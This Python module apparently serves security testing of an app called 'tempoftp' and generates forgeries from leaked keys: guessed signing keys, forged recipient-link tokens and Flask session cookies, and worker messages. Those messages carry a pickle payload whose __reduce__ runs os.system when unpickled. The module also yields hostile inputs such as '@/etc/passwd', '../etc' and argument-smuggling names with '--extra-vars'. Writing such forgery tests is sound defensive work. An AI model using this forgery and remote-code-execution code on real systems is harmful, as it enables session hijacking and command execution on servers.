"""What somebody makes who has the encryption key, the source code, and a link or a session of before: forgeries."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import os
import pickle
from collections.abc import Iterable, Iterator

from cryptography.fernet import Fernet
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.kdf.hkdf import HKDF
from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from itsdangerous import Signer

PURPOSES = (b"tempoftp recipient links", b"tempoftp portal session")


def list_guesses(keys: Iterable[str]) -> Iterator[bytes]:
    """Every signing key that somebody could try who has the encryption keys and the source code."""
    for key in keys:
        for known in (key.encode(), base64.urlsafe_b64decode(key)):
            yield known
            yield hashlib.sha256(known).digest()
            for info in PURPOSES:
                yield HKDF(algorithm=SHA256(), length=32, salt=None, info=info).derive(known)


def sign_link(key: bytes, *content: object) -> str:
    """Return the token of a recipient's link with this content."""
    payload = base64.urlsafe_b64encode(json.dumps(content, separators=(",", ":")).encode()).rstrip(b"=")
    signer = Signer(key, salt="tempoftp.recipient", key_derivation="none", digest_method=hashlib.sha256)
    return signer.sign(payload).decode()


def read_link(token: str) -> list[object]:
    """Return the content of a link's token."""
    payload = token.rpartition(".")[0]
    content = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    assert isinstance(content, list)
    return content


def sign_session(key: bytes, content: dict[str, object]) -> str:
    """Return the portal's cookie with this content."""
    forger = Flask("forger")
    forger.secret_key = key
    serializer = SecureCookieSessionInterface().get_signing_serializer(forger)
    assert serializer is not None
    return str(serializer.dumps(content))


class Command:
    """What runs a command where it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.command,)


def list_messages(shared_key: str, command: str, names: Iterable[str]) -> Iterator[bytes]:
    """Messages to a worker that would run a command if any were unpickled, signed in every way that the key allows.

    *names*: names of FTP hosts, with which one also begins, ends or is signed.
    """
    task = pickle.dumps(Command(command))
    texts = (task, base64.b64encode(task), *(name.encode() + b"\0" + task for name in names))
    for text in texts:
        yield text
        yield Fernet(shared_key).encrypt(text)
        for key in list_guesses([shared_key]):
            for digest in ("sha1", "sha256"):
                signature = hmac.new(key, text, digest).hexdigest().encode()
                yield from (text + b":" + signature, signature + b":" + text)
    for name in names:
        for key in list_guesses([shared_key]):
            yield Signer(key, digest_method=hashlib.sha256).sign(name)
        yield from (
            f"{name}\n".encode(),
            f"{name}:all".encode(),
            f"{name} --extra-vars x".encode(),
            name.encode() * 99,
        )
    yield from (b"", b"\xff\xfe", b"unknown", b"all", b"@/etc/passwd", b"../etc", b"localhost", b"x" * 60_000)
